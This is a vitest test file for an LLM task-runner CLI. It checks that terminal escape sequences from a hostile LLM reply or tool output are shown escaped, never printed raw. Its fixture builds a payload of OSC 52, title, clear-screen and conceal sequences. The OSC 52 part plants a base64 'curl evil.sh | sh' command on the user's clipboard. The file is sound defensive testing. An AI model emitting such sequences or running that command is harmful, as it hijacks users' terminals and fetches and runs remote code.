import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CliSandbox } from './support/cli.js';
import { callKind, stepOf, turnOf } from './support/llm-script.js';
import type { FakeOpenAI, RecordedRequest, Reply } from './support/openai-server.js';
import { useScriptedWorkspace } from './support/scripted-workspace.js';

let server: FakeOpenAI;
let dir: string;
let cli: CliSandbox['cli'];
useScriptedWorkspace((workspace) => ({ server, dir, cli } = workspace));

/** What a hostile LLM (or tool output) would write to take over the terminal of whoever watches the run. */
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'; // OSC 52: put "curl evil.sh | sh" on the clipboard
const TITLE = '\u001b]0;pwned\u0007'; // OSC 0: set the window title
const CLEAR = '\u001b[2J\u001b[H'; // clear the screen, cursor home
const HIDE = '\u001b[8m'; // SGR 8: conceal what follows
const HOSTILE = `ok${CLIPBOARD}${TITLE}${CLEAR}${HIDE}hidden\u009b31m`;

const TASK = `
goal: Say something
plan:
  - name: shout
    run: printf 'tool says \\033]0;tool-title\\007 done'
  - name: talk
    description: answer
`;

function script(request: RecordedRequest): Reply {
  if (callKind(request) === 'final') return { content: `final ${HOSTILE}` };
  if (stepOf(request) === 2 && turnOf(request) === 0) return { toolCalls: [{ name: 'record_discovery', arguments: { fact: `discovered ${HOSTILE}` } }] };
  return { content: `answer ${HOSTILE}` };
}

/** No escape sequence at all survives (colour is off for a child without a terminal, so not even SGR). */
function expectNoEscapes(text: string): void {
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
}

describe('escape sequences from an LLM or a tool are never printed raw', () => {
  it('start and inspect escape them visibly; --json and the database keep the raw text', async () => {
    writeFileSync(path.join(dir, 'task.yaml'), TASK);
    server.script(script);
    const started = await cli(['start', '--task', 'task.yaml', '--id', 'esc']);
    expect(started.code, started.stderr).toBe(0);
    expectNoEscapes(started.stdout);
    expectNoEscapes(started.stderr);
    expect(started.stdout).toContain('final ok\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007');
    expect(started.stderr).toContain('tool says \\u001b]0;tool-title\\u0007 done');

    const inspected = await cli(['inspect', 'esc']);
    expect(inspected.code).toBe(0);
    expectNoEscapes(inspected.stdout);
    expectNoEscapes(inspected.stderr);
    expect(inspected.stdout).toContain('discovered ok\\u001b]52;');

    const json = await cli(['inspect', 'esc', '--json']);
    const doc = JSON.parse(json.stdout) as { results: Record<string, string>; discoveries: { text: string }[]; result: string };
    expect(doc.results['2']).toBe(`answer ${HOSTILE}`);
    expect(doc.discoveries[0]!.text).toBe(`discovered ${HOSTILE}`);
    expect(doc.result).toBe(`final ${HOSTILE}`);
  });
});
